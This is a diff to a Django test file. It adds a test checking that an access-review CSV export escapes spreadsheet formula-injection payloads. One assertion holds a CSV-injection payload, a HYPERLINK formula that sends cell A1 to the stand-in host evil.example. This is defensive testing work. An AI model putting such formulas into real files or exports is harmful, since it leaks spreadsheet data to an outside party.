@@ -22,7 +22,7 @@ from access.permissions import BuiltinRole
 from access.tasks import expire_overdue_reviews
 from portal.demo import Persona
 from tests.factories import GrantFactory, TeamFactory, UserFactory
-from tests.helpers import queries_for, wait_until
+from tests.helpers import FORMULA_PAYLOADS, formulas_in, queries_for, wait_until
 
 ClientFor = Callable[[Persona | None], Client]
 pytestmark = pytest.mark.django_db
@@ -330,6 +330,19 @@ def test_the_evidence_exports_as_csv_with_every_decision(client_for: ClientFor) 
     assert revoked["decided_by"] == "lead"
     assert revoked["note"] == "No longer needed."
     assert revoked["reason"].startswith("'=")  # no formula reaches a spreadsheet
+
+
+def test_the_evidence_writes_no_reason_a_spreadsheet_of_any_locale_would_run(client_for: ClientFor) -> None:
+    for payload in FORMULA_PAYLOADS:
+        GrantFactory.create(team=team("student-experience"), reason=payload)
+    review = open_review()
+
+    response = client_for(Persona.AUDITOR).get(reverse("access:review_evidence", args=[review.pk]))
+
+    text = response.content.decode()
+    assert formulas_in(text) == []
+    reasons = {row["reason"] for row in csv.DictReader(io.StringIO(text, newline=""))}
+    assert 'x;\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")' in reasons
 
 
 def test_the_campaign_list_runs_the_same_number_of_queries_after_20_more_reviews(client_for: ClientFor) -> None:
